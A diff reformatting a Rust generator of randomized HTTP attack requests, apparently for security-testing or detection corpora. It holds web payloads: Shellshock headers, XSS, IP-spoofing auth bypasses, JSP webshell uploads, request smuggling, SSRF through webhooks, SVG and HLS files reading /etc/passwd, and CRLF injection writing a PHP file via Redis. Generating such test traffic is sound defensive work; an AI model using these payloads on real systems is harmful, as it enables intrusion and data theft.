@@ -47,17 +47,42 @@ fn header_tricks(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
         1 => wire.header("X-Rewrite-URL", format!("{inside}?a={word}")),
         2 => wire.header("X-Override-URL", inside),
         3 => wire.header("Proxy", format!("http://{word}.example:8080")),
-        4 => wire.header("Connection", format!("close, {}", rng.pick(&["X-Forwarded-For", "Authorization", "Cookie", "X-Real-IP", "X-F5-Auth-Token"]))),
+        4 => wire.header(
+            "Connection",
+            format!(
+                "close, {}",
+                rng.pick(&["X-Forwarded-For", "Authorization", "Cookie", "X-Real-IP", "X-F5-Auth-Token"])
+            ),
+        ),
         5 => wire.header("Range", format!("bytes=0-18446744073709551615,{}-", rng.below(99))),
-        6 => wire.header("Range", format!("bytes=0-{}", (0..rng.between(20, 60)).map(|at| format!(",5-{at}")).collect::<String>())),
+        6 => wire.header(
+            "Range",
+            format!("bytes=0-{}", (0..rng.between(20, 60)).map(|at| format!(",5-{at}")).collect::<String>()),
+        ),
         7 => wire.header("X-Middleware-Subrequest", ["middleware"; 5].join(":")),
         8 => wire.header("X-Middleware-Subrequest", "src/middleware:src/middleware:src/middleware"),
         9 => wire.header("X-HTTP-Method-Override", rng.pick(&["TRACE", "CONNECT", "DEBUG", "TRACK"])),
-        10 => wire.header("X-Custom-IP-Authorization", "127.0.0.1").header("X-Originating-IP", "127.0.0.1").header("X-Remote-Addr", "127.0.0.1").header("X-Client-IP", "127.0.0.1"),
-        11 => wire.header("X-Forwarded-For", "127.0.0.1").header("X-Real-IP", "127.0.0.1").header("X-Originating-IP", "127.0.0.1").header("True-Client-IP", "127.0.0.1").header("X-Remote-IP", "127.0.0.1"),
-        12 => wire.header("Upgrade", "websocket").header("Connection", "Upgrade").header("Sec-WebSocket-Version", rng.pick(&["777", "1337", "99"])).header("Sec-WebSocket-Key", codec::base64(rng.bytes(16))),
+        10 => wire
+            .header("X-Custom-IP-Authorization", "127.0.0.1")
+            .header("X-Originating-IP", "127.0.0.1")
+            .header("X-Remote-Addr", "127.0.0.1")
+            .header("X-Client-IP", "127.0.0.1"),
+        11 => wire
+            .header("X-Forwarded-For", "127.0.0.1")
+            .header("X-Real-IP", "127.0.0.1")
+            .header("X-Originating-IP", "127.0.0.1")
+            .header("True-Client-IP", "127.0.0.1")
+            .header("X-Remote-IP", "127.0.0.1"),
+        12 => wire
+            .header("Upgrade", "websocket")
+            .header("Connection", "Upgrade")
+            .header("Sec-WebSocket-Version", rng.pick(&["777", "1337", "99"]))
+            .header("Sec-WebSocket-Key", codec::base64(rng.bytes(16))),
         13 => wire.header("Expect", format!("{} 100-continue", rng.letters(1))),
-        14 => wire.header("Request-Range", format!("bytes=5-0{}", (1..rng.between(20, 60)).map(|at| format!(",{}-{at}", at % 9)).collect::<String>())),
+        14 => wire.header(
+            "Request-Range",
+            format!("bytes=5-0{}", (1..rng.between(20, 60)).map(|at| format!(",{}-{at}", at % 9)).collect::<String>()),
+        ),
         15 => wire.header("User-Agent", format!("() {{ :;}}; echo; /bin/{word}")),
         16 => wire.header("X-Forwarded-Host", format!("{word}.example\"></script><script>alert(1)</script>")),
         _ => wire.header("serverIdentity", "security").header("User-Agent", "Nacos-Server"),
@@ -76,8 +101,11 @@ fn methods(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
         3 => Wire::new("PUT", format!("/{name}.jsp/")).body("", format!("<%out.print(\"{word}\");%>")),
         4 => Wire::new("PUT", format!("/{name}.jsp%20")).body("text/plain", format!("<%=\"{word}\"%>")),
         5 => Wire::new("PUT", format!("/{name}.jsp::$DATA")).body("text/plain", format!("<%=\"{word}\"%>")),
-        6 => Wire::new("MOVE", format!("/{name}.txt")).header("Destination", format!("http://www.example.org/{word}.asp;.jpg")).header("Overwrite", "T"),
-        _ => Wire::new("MOVE", format!("/fileserver/{name}.txt")).header("Destination", format!("file:///opt/activemq/webapps/api/{word}.jsp")),
+        6 => Wire::new("MOVE", format!("/{name}.txt"))
+            .header("Destination", format!("http://www.example.org/{word}.asp;.jpg"))
+            .header("Overwrite", "T"),
+        _ => Wire::new("MOVE", format!("/fileserver/{name}.txt"))
+            .header("Destination", format!("file:///opt/activemq/webapps/api/{word}.jsp")),
     };
     (wire.program("Mozilla/5.0").finish(rng), Place::Header, Encoding::Plain)
 }
@@ -90,19 +118,25 @@ fn smuggled(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
     let length = inner.len();
     let raw = match rng.below(14) {
         0 => format!("POST /static/{word}.js HTTP/1.1\r\n{host}Content-Length: {length}\r\n\r\n{inner}"),
-        1 => format!("POST /static/ HTTP/1.1\r\n{host}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n{inner}"),
+        1 => format!(
+            "POST /static/ HTTP/1.1\r\n{host}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n{inner}"
+        ),
         2 => format!("GET /{word} HTTP/1.1\r\n{host}Content-Length: {length}\r\n\r\n{inner}"),
         3 => format!("POST / HTTP/1.1\r\n{host}Content-Length: {length}\r\nTransfer-Encoding : chunked\r\n\r\n{inner}"),
         4 => format!("POST / HTTP/1.1\r\n{host}Content-Length: 0x{length:x}\r\n\r\n{inner}"),
         5 => format!("POST / HTTP/1.1\r\n{host}Content-Length: {length}, {length}\r\n\r\n{inner}"),
-        6 => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n{length:x};{word}\n\r\n{inner}\r\n0\r\n\r\n"),
+        6 => format!(
+            "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n{length:x};{word}\n\r\n{inner}\r\n0\r\n\r\n"
+        ),
         7 => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n{inner}"),
         8 => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: \"chunked\"\r\nX-{word}: 1\r\n\r\n0\r\n\r\n"),
         9 => format!("GET /{word} HTTP/1.1\r\n{host}Host: localhost\r\n\r\n"),
         10 => format!("GET /{word}\x0bHTTP/1.1\r\n{host}\r\n"),
         11 => format!("GET http://localhost/{word} HTTP/1.1\r\n{host}\r\n"),
         12 => format!("GET @localhost/{word} HTTP/1.1\r\n{host}\r\n"),
-        _ => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n3\r\nabc{word}\r\n0\r\nContent-Length: 9\r\n\r\n"),
+        _ => format!(
+            "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n3\r\nabc{word}\r\n0\r\nContent-Length: 9\r\n\r\n"
+        ),
     };
     (raw.into_bytes(), Place::Header, Encoding::Plain)
 }
@@ -155,26 +189,130 @@ fn ssrf_features(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
         "http://192.168.1.1:2375/images/json",
     ]);
     let (wire, place) = match rng.below(15) {
-        0 => (Wire::post("/api/webhooks", JSON, format!("{{\"name\":\"{word}\",\"events\":[\"push\"],\"config\":{{\"url\":{},\"content_type\":\"json\"}}}}", codec::json(inner))), Place::Json),
-        1 => (Wire::post("/xmlrpc.php", "text/xml", format!("<methodCall><methodName>pingback.ping</methodName><params><param><value><string>{}</string></value></param><param><value><string>http://www.example.org/?p={word}</string></value></param></params></methodCall>", codec::xml(inner))), Place::Xml),
-        2 => (Wire::post("/convert/pdf", FORM, format!("html={}", codec::form(format!("<h1>{word}</h1><iframe src=\"{inner}\" width=\"800\"></iframe>")))), Place::Form),
-        3 => (Wire::post("/convert/pdf", JSON, format!("{{\"html\":{}}}", codec::json(format!("<link rel=attachment href=\"{inner}\">{word}")))), Place::Json),
+        0 => (
+            Wire::post(
+                "/api/webhooks",
+                JSON,
+                format!(
+                    "{{\"name\":\"{word}\",\"events\":[\"push\"],\"config\":{{\"url\":{},\"content_type\":\"json\"}}}}",
+                    codec::json(inner)
+                ),
+            ),
+            Place::Json,
+        ),
+        1 => (
+            Wire::post(
+                "/xmlrpc.php",
+                "text/xml",
+                format!(
+                    "<methodCall><methodName>pingback.ping</methodName><params><param><value><string>{}</string></value></param><param><value><string>http://www.example.org/?p={word}</string></value></param></params></methodCall>",
+                    codec::xml(inner)
+                ),
+            ),
+            Place::Xml,
+        ),
+        2 => (
+            Wire::post(
+                "/convert/pdf",
+                FORM,
+                format!(
+                    "html={}",
+                    codec::form(format!("<h1>{word}</h1><iframe src=\"{inner}\" width=\"800\"></iframe>"))
+                ),
+            ),
+            Place::Form,
+        ),
+        3 => (
+            Wire::post(
+                "/convert/pdf",
+                JSON,
+                format!("{{\"html\":{}}}", codec::json(format!("<link rel=attachment href=\"{inner}\">{word}"))),
+            ),
+            Place::Json,
+        ),
         4 => {
-            let (kind, body) = multipart(&[Part::file("avatar", &format!("{word}.svg"), "image/svg+xml", format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{inner}\" width=\"9\"/></svg>"))], rng);
+            let (kind, body) = multipart(
+                &[Part::file(
+                    "avatar",
+                    &format!("{word}.svg"),
+                    "image/svg+xml",
+                    format!(
+                        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{inner}\" width=\"9\"/></svg>"
+                    ),
+                )],
+                rng,
+            );
             (Wire::post("/user/avatar", &kind, body), Place::Multipart)
         }
         5 => {
-            let (kind, body) = multipart(&[Part::file("video", &format!("{word}.m3u8"), "application/octet-stream", format!("#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{inner}|file:///etc/passwd\n#EXT-X-ENDLIST"))], rng);
+            let (kind, body) = multipart(
+                &[Part::file(
+                    "video",
+                    &format!("{word}.m3u8"),
+                    "application/octet-stream",
+                    format!(
+                        "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{inner}|file:///etc/passwd\n#EXT-X-ENDLIST"
+                    ),
+                )],
+                rng,
+            );
             (Wire::post("/video/upload", &kind, body), Place::Multipart)
         }
-        6 => (Wire::get(format!("/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname={word}&operator={}", codec::percent(inner))), Place::Query),
-        7 => (Wire::get(format!("/plugins/servlet/gadgets/makeRequest?url={}", codec::percent(format!("https://jira.example@{}", &inner[inner.find("://").unwrap() + 3..])))), Place::Query),
-        8 => (Wire::get(format!("/ueditor/php/controller.php?action=catchimage&source[]={}&n={word}", codec::percent(format!("{inner}?.png")))), Place::Query),
+        6 => (
+            Wire::get(format!(
+                "/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname={word}&operator={}",
+                codec::percent(inner)
+            )),
+            Place::Query,
+        ),
+        7 => (
+            Wire::get(format!(
+                "/plugins/servlet/gadgets/makeRequest?url={}",
+                codec::percent(format!("https://jira.example@{}", &inner[inner.find("://").unwrap() + 3..]))
+            )),
+            Place::Query,
+        ),
+        8 => (
+            Wire::get(format!(
+                "/ueditor/php/controller.php?action=catchimage&source[]={}&n={word}",
+                codec::percent(format!("{inner}?.png"))
+            )),
+            Place::Query,
+        ),
         9 => (Wire::get(format!("/_next/image?w=640&q=75&url={}&n={word}", codec::percent(inner))), Place::Query),
-        10 => (Wire::post("/graphql", JSON, format!("{{\"query\":{}}}", codec::json(format!("mutation {{ importFrom(name: \"{word}\", url: \"{inner}\") {{ id }} }}")))), Place::Json),
-        11 => (Wire::get(format!("/index?{word}")).header("Referer", inner).header("X-Wap-Profile", inner), Place::Header),
-        12 => (Wire::post("/soap/import", "text/xml", format!("<import><wsdl:import xmlns:wsdl=\"http://schemas.xmlsoap.org/wsdl/\" location=\"{}\"/><n>{word}</n></import>", codec::xml(inner))), Place::Xml),
-        13 => (Wire::post("/api/rss", JSON, format!("{{\"feed\":{},\"title\":\"{word}\"}}", codec::json(format!("feed:{inner}")))), Place::Json),
+        10 => (
+            Wire::post(
+                "/graphql",
+                JSON,
+                format!(
+                    "{{\"query\":{}}}",
+                    codec::json(format!("mutation {{ importFrom(name: \"{word}\", url: \"{inner}\") {{ id }} }}"))
+                ),
+            ),
+            Place::Json,
+        ),
+        11 => {
+            (Wire::get(format!("/index?{word}")).header("Referer", inner).header("X-Wap-Profile", inner), Place::Header)
+        }
+        12 => (
+            Wire::post(
+                "/soap/import",
+                "text/xml",
+                format!(
+                    "<import><wsdl:import xmlns:wsdl=\"http://schemas.xmlsoap.org/wsdl/\" location=\"{}\"/><n>{word}</n></import>",
+                    codec::xml(inner)
+                ),
+            ),
+            Place::Xml,
+        ),
+        13 => (
+            Wire::post(
+                "/api/rss",
+                JSON,
+                format!("{{\"feed\":{},\"title\":\"{word}\"}}", codec::json(format!("feed:{inner}"))),
+            ),
+            Place::Json,
+        ),
         _ => (Wire::get(format!("/proxy/{}?{word}", codec::percent_keeping(inner.as_bytes(), b":/"))), Place::Path),
     };
     (wire.desktop(rng).finish(rng), place, Encoding::Plain)
@@ -187,12 +325,16 @@ fn crlf(rng: &mut Rng) -> Vec<u8> {
     match rng.below(14) {
         0 => format!("{end}Set-Cookie: {word}=1; path=/"),
         1 => format!("/{word}{end}Location: http://{word}.example/"),
-        2 => format!("zh{end}Content-Length: 0{end}{end}HTTP/1.1 200 OK{end}Content-Type: text/html{end}{end}<h1>{word}</h1>"),
+        2 => format!(
+            "zh{end}Content-Length: 0{end}{end}HTTP/1.1 200 OK{end}Content-Type: text/html{end}{end}<h1>{word}</h1>"
+        ),
         3 => format!("{word}{end}Refresh: 0;url=http://{word}.example"),
         4 => format!("{word}嘊嘍Set-Cookie: {word}=1"),
         5 => format!("1.1.1.1{end}X-Forwarded-For: 127.0.0.1{end}X-{word}: 1"),
         6 => format!("{word}{end}*3{end}$3{end}SET{end}$1{end}a{end}$5{end}{word}"),
-        7 => format!("http://127.0.0.1:6379/{end}CONFIG SET dir /var/www/{end}CONFIG SET dbfilename {word}.php{end}SAVE"),
+        7 => {
+            format!("http://127.0.0.1:6379/{end}CONFIG SET dir /var/www/{end}CONFIG SET dbfilename {word}.php{end}SAVE")
+        }
         8 => format!("{word} HTTP/1.1{end}Host: localhost:8080{end}{end}GET /{word}"),
         9 => format!("{end}{end}<script>alert('{word}')</script>"),
         10 => format!("{end} Set-Cookie: {word}=a; HttpOnly"),
